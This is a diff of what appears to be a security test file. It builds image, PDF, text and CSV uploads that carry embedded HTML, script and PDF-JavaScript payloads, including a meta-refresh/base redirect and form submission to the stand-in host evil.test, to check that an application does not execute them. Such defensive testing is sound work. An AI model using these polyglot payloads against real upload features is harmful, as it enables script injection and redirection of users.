@@ -15,30 +15,30 @@ const PAYLOADS: Record<string, string> = {
   refresh: `<meta http-equiv="refresh" content="0;url=/reached"><base href="//evil.test/"><form action="/reached"><button autofocus>`,
   script: `*/=1;${REACH};/*`,
 };
-const bytes = (text: string) => Buffer.from(text, 'latin1');
+const latin = (text: string) => Buffer.from(text, 'latin1');
 /** Whole files of their kind, so that they are taken, with the payload where each keeps remarks. */
 const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 const inTests = (name: string) => readFileSync(new URL(`../../test/${name}`, import.meta.url));
 const PNG = inTests('tiny.png');
 const JPEG = inTests('tiny.jpg');
 const CONTAINERS: Record<string, (payload: string) => Buffer> = {
-  'a.pdf': (payload) => Buffer.concat([Buffer.from(pdfOf({ pages: [['Page']] })), bytes(`\n${payload}`)]),
+  'a.pdf': (payload) => Buffer.concat([Buffer.from(pdfOf({ pages: [['Page']] })), latin(`\n${payload}`)]),
   'b.pdf': (payload) =>
     Buffer.from(
       pdfOf({ pages: [['Page']], catalog: `/Remark(${payload.replaceAll(/[()\\]/g, String.raw`\$&`)})` }),
     ),
-  'a.gif': (payload) => Buffer.concat([GIF, bytes(payload)]),
-  'a.png': (payload) => Buffer.concat([PNG, bytes(payload)]),
+  'a.gif': (payload) => Buffer.concat([GIF, latin(payload)]),
+  'a.png': (payload) => Buffer.concat([PNG, latin(payload)]),
   'a.jpg': (payload) =>
     Buffer.concat([
       JPEG.subarray(0, 2),
       Buffer.from('fffe', 'hex'),
       Buffer.from([(payload.length + 2) >> 8, (payload.length + 2) & 255]),
-      bytes(payload),
+      latin(payload),
       JPEG.subarray(2),
     ]),
-  'a.txt': (payload) => bytes(payload),
-  'a.csv': (payload) => bytes(`Name,Amount\n${payload.replaceAll(',', ';')},1`),
+  'a.txt': (payload) => latin(payload),
+  'a.csv': (payload) => latin(`Name,Amount\n${payload.replaceAll(',', ';')},1`),
 };
 const js = `this.submitForm('https://evil.test/reached');app.alert('reached');app.launchURL('https://evil.test/reached',true)`;
 /** PDFs that act when they are opened, or when something in them is pressed. */
